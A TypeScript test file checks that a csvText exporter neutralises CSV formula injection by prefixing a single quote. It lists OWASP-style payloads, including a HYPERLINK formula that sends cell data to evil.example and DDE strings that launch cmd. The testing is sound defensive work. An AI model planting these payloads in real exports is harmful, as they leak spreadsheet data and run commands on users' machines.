import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { csvText } from './csv.ts'

// OWASP's CSV injection examples, and one for each character that starts a formula.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Open record")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '-5',
]

describe('csvText', () => {
  it.each(PAYLOADS)('writes %j as quoted text behind a single quote', (payload) => {
    const csv = csvText([['name'], [payload]])
    const line = csv.slice('name\n'.length)
    expect(line.startsWith(`"'`)).toBe(true)
    expect(parse(csv)).toEqual([['name'], [`'${payload}`]])
  })

  it('keeps numbers, negative ones too, as numbers', () => {
    expect(csvText([[-5, 0, 2.5, -0.25]])).toBe('-5,0,2.5,-0.25\n')
  })

  it('leaves ordinary text, empty cells and text with a formula character later on alone', () => {
    const csv = csvText([['Ottoline Quarrendon', '', null, 'a=b', 'x, =1+1', ' =1+1']])
    expect(csv).toBe('Ottoline Quarrendon,,,a=b,"x, =1+1", =1+1\n')
  })
})
